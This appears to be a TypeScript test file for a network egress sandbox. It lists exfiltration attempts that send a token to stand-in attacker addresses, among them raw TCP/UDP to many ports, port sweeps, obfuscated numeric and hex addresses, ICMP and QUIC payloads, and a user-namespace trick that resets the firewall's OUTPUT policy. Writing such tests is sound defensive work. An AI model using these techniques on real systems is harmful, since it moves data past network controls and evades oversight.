import { type Attack, cdn4, curl, dns4, evil4, evil6, good4, good6, py } from './attack.js';

const tcp = [
  21, 22, 25, 53, 80, 110, 123, 143, 443, 587, 853, 993, 1080, 3128, 4444, 5432, 6667, 6881, 8080, 8443, 9418,
  15443,
];
const udp = [53, 67, 69, 123, 137, 161, 443, 500, 514, 853, 1194, 1900, 3478, 4500, 5353, 5355, 6881, 51820];

/** Packets to an address, with no name in sight. */
export const byAddress: readonly Attack[] = [
  ...tcp.map((port) => ({
    name: `TCP ${port} to a raw address`,
    script: (t: string) => py('tcp', evil4, port, t),
  })),
  ...udp.map((port) => ({
    name: `UDP ${port} to a raw address`,
    script: (t: string) => py('udp', evil4, port, t),
  })),
  ...[22, 80, 443, 853, 8080].map((port) => ({
    name: `TCP ${port} to a raw IPv6 address`,
    script: (t: string) => py('tcp', evil6, port, t),
    ipv6: true as const,
  })),
  ...[53, 443, 4500].map((port) => ({
    name: `UDP ${port} to a raw IPv6 address`,
    script: (t: string) => py('udp', evil6, port, t),
    ipv6: true as const,
  })),
  { name: 'a sweep over five hundred ports', script: (t) => py('sweep', evil4, 0, t), alone: true },
  {
    name: 'a sweep over five hundred ports over IPv6',
    script: (t) => py('sweep', evil6, 0, t),
    alone: true,
    ipv6: true,
  },
  { name: 'an IPv4-mapped IPv6 address', script: (t) => py('tcp', `::ffff:${evil4}`, 80, t) },
  { name: 'a datagram to an IPv4-mapped IPv6 address', script: (t) => py('udp', `::ffff:${evil4}`, 4500, t) },
  { name: 'an address written as a number', script: (t) => curl(`http://3323068482/${t}`) },
  { name: 'an address written in hexadecimal', script: (t) => curl(`http://0xc6.0x12.0x0.0x42:8080/${t}`) },
  { name: 'a datagram in fragments', script: (t) => py('udp', evil4, 4500, t, 4000) },
  { name: 'a datagram in fragments over IPv6', script: (t) => py('udp', evil6, 4500, t, 4000), ipv6: true },
  { name: 'UDP-Lite', script: (t) => py('udplite', evil4, 4500, t) },
  { name: 'UDP-Lite over IPv6', script: (t) => py('udplite', evil6, 4500, t), ipv6: true },
  { name: 'multipath TCP', script: (t) => py('mptcp', evil4, 80, t) },
  { name: 'multipath TCP over IPv6', script: (t) => py('mptcp', evil6, 8080, t), ipv6: true },
  { name: 'ICMP echo with a payload', script: (t) => py('icmp', evil4, 0, t) },
  { name: 'ICMPv6 echo with a payload', script: (t) => py('icmp', evil6, 0, t), ipv6: true },
  {
    name: 'ICMP echo to a listed site',
    script: (t) => `getent hosts allowed.example; ${py('icmp', good4, 0, t)}`,
  },
  { name: 'TCP fast open, data in the first packet', script: (t) => py('fastopen', evil4, 80, t) },
  {
    name: 'QUIC to a listed site',
    script: (t) => `getent hosts allowed.example; ${py('udp', good4, 443, t)}`,
  },
  {
    name: 'QUIC to a listed site over IPv6',
    script: (t) => `getent hosts allowed.example; ${py('udp', good6, 443, t)}`,
    ipv6: true,
  },
  { name: 'QUIC to a shared address', script: (t) => `getent hosts cdn.example; ${py('udp', cdn4, 443, t)}` },
  { name: 'TCP from a chosen source port', script: (t) => py('low_source', evil4, 80, t) },
  {
    name: 'UDP to the port of DNS at an address that is no name server',
    script: (t) => py('udp', good4, 53, t),
  },
  { name: 'a socket bound to the network device', script: (t) => py('bound_device', evil4, 8080, t, 'eth0') },
  { name: 'a datagram to another port of the upstream name server', script: (t) => py('udp', dns4, 22, t) },
  {
    name: 'a new user and network namespace',
    script: (t) => `unshare --user --map-root-user iptables -P OUTPUT ACCEPT; ${py('tcp', evil4, 8080, t)}`,
  },
  // The rules let uid 0 ask name servers, and the proxy's uid talk to sites.
  ...[0, 59_901, 59_902, 59_903].map((uid) => ({
    name: `a user namespace in which it has uid ${uid}`,
    script: (t: string) =>
      [py('udp', evil4, 53, t), py('tcp', evil4, 80, t)]
        .map((send) => `unshare --user --map-user=${uid} ${send}; ${send}`)
        .join('; '),
  })),
];
